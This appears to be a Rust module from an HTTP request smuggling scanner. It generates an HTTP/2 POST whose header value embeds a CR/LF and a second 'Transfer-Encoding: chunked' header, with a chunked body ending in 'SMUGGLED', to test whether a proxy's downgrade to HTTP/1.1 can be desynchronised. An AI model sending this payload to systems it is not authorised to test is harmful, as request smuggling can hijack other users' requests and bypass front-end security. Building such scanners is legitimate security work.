use desynctrace_protocol::{HttpVersion, Request};

use crate::common::templated;

/// Embeds a literal CR/LF inside a header value. On a naive HTTP/2-to-1.1
/// downgrade this splits into two header lines, smuggling a second
/// `Transfer-Encoding` the HTTP/2 leg never saw.
pub fn generate(base: &Request) -> Vec<Request> {
    let mut req = templated(base, "POST", HttpVersion::Http2);
    req.headers
        .push(("x-foo".to_string(), "bar\r\nTransfer-Encoding: chunked".to_string()));
    req.body = b"0\r\n\r\nSMUGGLED".to_vec();
    vec![req]
}

pub use crate::common::suspicious as verify;
